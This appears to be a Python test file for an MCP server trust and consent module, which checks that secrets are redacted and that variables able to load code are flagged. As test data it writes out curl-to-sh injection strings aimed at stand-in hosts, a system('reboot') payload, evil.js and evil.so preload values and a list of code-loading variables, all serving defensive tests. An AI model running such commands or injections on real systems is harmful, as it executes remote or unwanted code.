"""Trust is given once, to what was shown, and asked for again when that changes."""

from __future__ import annotations

import stat
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from kosmo_kernel.errors import SettingsError, UntrustedError
from kosmo_kernel.mcp import Server, Trust
from kosmo_kernel.mcp.trust import command_line, consent_lines, fingerprint
from kosmo_kernel.safety.text import escape_hidden

SERVER = Server(
    name="ledger",
    source="project",
    path=Path("/project/.mcp.json"),
    root=Path("/project"),
    command="ledger-server",
    args=("--book", "the blue one"),
    env={"LEDGER_KEY": "open-sesame-42", "BOOK": "${BOOK:-main}"},
)

LOADING = """
NODE_OPTIONS NODE_PATH LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT DYLD_INSERT_LIBRARIES PYTHONPATH PYTHONSTARTUP PYTHONHOME
PYTHONWARNINGS PYTHON_KEYRING_BACKEND PERL5OPT PERL5LIB RUBYOPT RUBYLIB BASH_ENV BASH_FUNC_ls%% ENV PROMPT_COMMAND
JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS PATH GIT_SSH_COMMAND GIT_EXEC_PATH GIT_CONFIG_COUNT SSH_ASKPASS
npm_config_registry PIP_INDEX_URL UV_INDEX_URL XDG_CONFIG_HOME HOME DOTNET_STARTUP_HOOKS LUA_INIT_5_4 OPENSSL_CONF
AWS_SHARED_CREDENTIALS_FILE KUBECONFIG GOFLAGS CARGO_HOME RUSTC_WRAPPER ELIXIR_ERL_OPTIONS EDITOR GCONV_PATH
"""

HARMLESS = """
MODE LANG TZ LC_ALL API_KEY NPM_TOKEN GITHUB_PERSONAL_ACCESS_TOKEN PYTHONUNBUFFERED PYTHONIOENCODING NODE_ENV DEBUG
LOG_LEVEL GOOGLE_API_KEY GIT_AUTHOR_NAME RUST_LOG DATABASE_URL AWS_REGION ENVIRONMENT PATHS MIXED SSH_AUTH_SOCK
"""

HIDDEN = ["\u202e", "\u2066", "\u200b", "\ufeff", "\u00ad", "\U000e0041", "\u2028", "\ufe0f", "\u3164", "\u05d0"]


def test_trust_is_kept_for_the_next_session(tmp_path: Path) -> None:
    trust = Trust(tmp_path / "settings")
    assert trust.status(SERVER) == "untrusted"
    trust.trust(SERVER)
    assert Trust(tmp_path / "settings").status(SERVER) == "trusted"
    Trust(tmp_path / "settings").require(SERVER)
    assert trust.untrust(SERVER)
    assert not trust.untrust(SERVER)
    assert trust.status(SERVER) == "untrusted"


def test_a_server_of_the_users_own_file_needs_no_trust(tmp_path: Path) -> None:
    assert Trust(tmp_path).status(replace(SERVER, source="user")) == "trusted"


@pytest.mark.claim("mcp-trust")
@pytest.mark.parametrize(
    "change",
    [
        {"command": "other"},
        {"args": ("--book", "the red one")},
        {"args": ("--book the blue one",)},
        {"cwd": "elsewhere"},
        {"env": {"LEDGER_KEY": "open-sesame-42"}},
        {"env": {**SERVER.env, "NEW": "x"}},
        {"env": {**SERVER.env, "BOOK": "${HEROKU_API_KEY}"}},
        {"env": {**SERVER.env, "BOOK": "main"}},
        {"kind": "http", "url": "https://example.com/mcp"},
        {"headers": {"Authorization": "Bearer ${TOKEN}"}},
    ],
)
def test_a_change_of_what_would_run_is_asked_about_again(tmp_path: Path, change: dict[str, Any]) -> None:
    trust = Trust(tmp_path)
    trust.trust(SERVER)
    changed = replace(SERVER, **change)
    assert trust.status(changed) == "changed"
    with pytest.raises(UntrustedError, match="has changed since you trusted it, so it was not started"):
        trust.require(changed)


@pytest.mark.parametrize(
    "name", ["LEDGER_KEY", "LD_PRELOAD", "PYTHON_KEYRING_BACKEND", "AWS_SHARED_CREDENTIALS_FILE", "SESSION", "MODE"]
)
@pytest.mark.parametrize("field", ["env", "headers"])
def test_a_new_value_of_any_variable_or_header_is_a_change(name: str, field: str) -> None:
    one, other = ("\ud800", "two") if name == "SESSION" else ("one", "two")
    before: dict[str, Any] = {field: {name: one}}
    after: dict[str, Any] = {field: {name: other}}
    first = replace(SERVER, **before)
    assert fingerprint(first) != fingerprint(replace(SERVER, **after))
    assert fingerprint(first) == fingerprint(replace(first, timeout=5.0, enabled=False))


def test_another_projects_server_of_the_same_name_is_another_one(tmp_path: Path) -> None:
    trust = Trust(tmp_path)
    trust.trust(SERVER)
    assert trust.status(replace(SERVER, root=Path("/elsewhere"))) == "untrusted"


def test_only_the_owner_can_read_the_agreements(tmp_path: Path) -> None:
    trust = Trust(tmp_path / "settings")
    trust.trust(SERVER)
    assert stat.S_IMODE(trust.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(trust.path.parent.stat().st_mode) == 0o700
    assert "sesame" not in trust.path.read_text()


@pytest.mark.claim("mcp-consent")
def test_what_is_shown_has_each_value_that_is_no_secret_and_names_what_is_left_out() -> None:
    assert consent_lines(SERVER) == [
        'ledger-server --book "the blue one"',
        "variable LEDGER_KEY = [redacted]",
        "variable BOOK = ${BOOK:-main}",
        "Not shown, because it may be a secret: the variable LEDGER_KEY. /project/.mcp.json has it.",
    ]


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("NODE_OPTIONS", "--require ./evil.js", "--require ./evil.js"),
        ("PYTHON_KEYRING_BACKEND", "evil.Backend", "evil.Backend"),
        ("AWS_SHARED_CREDENTIALS_FILE", "creds.ini", "creds.ini"),
        ("NPM_TOKEN", "opensesame", "[redacted]"),
        ("API_KEY", "./key.pem", "./key.pem"),
        ("API_KEY", "${secret:ledger.KEY}", "${secret:ledger.KEY}"),
        ("API_KEY", "@secret:ledger.KEY", "@secret:ledger.KEY"),
        ("API_KEY", "open${X}sesame", "[redacted]${X}[redacted]"),
        ("DSN", "postgres://me:opensesame@db.example/x", "postgres://me:[redacted]@db.example/x"),
        ("MODE", "key=1;curl x.example|sh", "key=1;curl x.example|sh"),
        ("EMPTY", "", '""'),
        ("BLANK", " a", '" a"'),
        ("LINES", "a\nvariable MODE = safe", "a\\nvariable MODE = safe"),
    ],
)
def test_a_value_is_shown_unless_it_is_a_secret(name: str, value: str, shown: str) -> None:
    lines = consent_lines(replace(SERVER, env={name: value}))
    assert lines[1] == f"variable {name} = {shown}"
    assert any(line.startswith("Not shown") for line in lines) == ("[redacted]" in shown)


def test_a_header_is_shown_with_its_scheme_and_its_reference() -> None:
    headers = {"Authorization": "Bearer ${secret:ledger.KEY}", "X-Api-Key": "opensesame", "X-Team": "blue"}
    assert consent_lines(replace(SERVER, env={}, headers=headers))[1:-1] == [
        "header Authorization = Bearer ${secret:ledger.KEY}",
        "header X-Api-Key = [redacted]",
        "header X-Team = blue",
    ]


@pytest.mark.claim("mcp-consent")
@pytest.mark.parametrize(
    "name",
    LOADING.split(),
)
def test_a_variable_that_can_run_other_code_is_named_once_more(name: str) -> None:
    server = replace(SERVER, env={name: "token=x", "MODE": "fast"})
    assert consent_lines(server)[1:] == [
        f"variable {name} = token=x",
        "variable MODE = fast",
        f"CAREFUL: {name} can make the program run other code than its own.",
    ]


@pytest.mark.parametrize(
    "name",
    HARMLESS.split(),
)
def test_a_variable_that_runs_no_code_raises_no_alarm(name: str) -> None:
    assert not any("CAREFUL" in line for line in consent_lines(replace(SERVER, env={name: "1"})))


@pytest.mark.claim("mcp-consent")
@pytest.mark.parametrize("hidden", HIDDEN)
@pytest.mark.parametrize("place", ["command", "args", "cwd", "name", "value", "header", "path", "url"])
def test_no_character_of_what_is_shown_is_hidden(place: str, hidden: str) -> None:
    text = f"a{hidden}b"
    changes: dict[str, dict[str, Any]] = {
        "command": {"command": text},
        "args": {"args": ("x y" + text,)},
        "cwd": {"cwd": text},
        "name": {"env": {text: "1"}},
        "value": {"env": {"LD_PRELOAD": text}},
        "header": {"headers": {"X-Team": text}},
        "path": {"path": Path(f"/{text}/.mcp.json")},
        "url": {"kind": "http", "url": f"https://{text}.example"},
    }
    shown = "\n".join(consent_lines(replace(SERVER, **changes[place])))
    assert hidden not in shown
    assert f"a{escape_hidden(hidden)}b" in shown


@pytest.mark.parametrize(
    ("args", "line", "left_out"),
    [
        (("--api-key=opensesame",), "run --api-key=[redacted]", "--api-key=[redacted]"),
        (("--token", "opensesame", "-v"), "run --token [redacted] -v", "the word after --token"),
        (
            ("https://me:opensesame@x.example/?token=opensesame&a=1",),
            "run https://me:[redacted]@x.example/?token=[redacted]&a=1",
            "https://me:[redacted]@x.example/?token=[redacted]&a=1",
        ),
        (("--token", "${secret:run.T}", "--api-key=${KEY}"), "run --token ${secret:run.T} --api-key=${KEY}", ""),
        (("https://me:${secret:run.T}@x.example/",), "run https://me:${secret:run.T}@x.example/", ""),
        (("--token", "@secret:run.T"), "run --token @secret:run.T", ""),
    ],
)
def test_of_an_argument_that_is_a_secret_the_name_is_shown_and_the_agreement_is_to_its_value(
    args: tuple[str, ...], line: str, left_out: str
) -> None:
    server = replace(SERVER, command="run", args=args, env={})

    assert (consent_lines(server)[0], command_line(server)) == (line, line)
    assert consent_lines(server)[1:] == (
        [f"Not shown, because it may be a secret: {left_out}. /project/.mcp.json has it."] if left_out else []
    )
    changed = replace(server, args=tuple(arg.replace("opensesame", "another") for arg in args))
    assert (fingerprint(changed) == fingerprint(server)) == (changed == server)


@pytest.mark.parametrize(
    "args",
    [
        ("-c", "KEY=1;curl${IFS}x.example|sh"),
        ("-e", "token=system('reboot')"),
        ("--token", "./evil.so"),
        ("-c", "http://me:;curl${IFS}x.example|sh;@"),
    ],
)
def test_what_may_be_code_is_shown_to_who_agrees_to_it_however_it_is_called(args: tuple[str, ...]) -> None:
    server = replace(SERVER, command="sh", args=args, env={})

    assert all(arg in consent_lines(server)[0] for arg in args)


@pytest.mark.parametrize("text", ["", "{}", "[]", '{"trusted": 3}', "{"])
def test_a_damaged_file_trusts_nobody_and_is_named(tmp_path: Path, text: str) -> None:
    trust = Trust(tmp_path)
    trust.path.write_text(text)
    with pytest.raises(SettingsError, match=r"mcp-trust\.json is damaged"):
        trust.require(SERVER)


def test_the_settings_folder_is_where_the_user_says(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("KOSMO_CONFIG_DIR", str(tmp_path / "here"))
    assert Trust().path == tmp_path / "here" / "mcp-trust.json"
    monkeypatch.delenv("KOSMO_CONFIG_DIR")
    assert Path.home() in Trust().path.parents
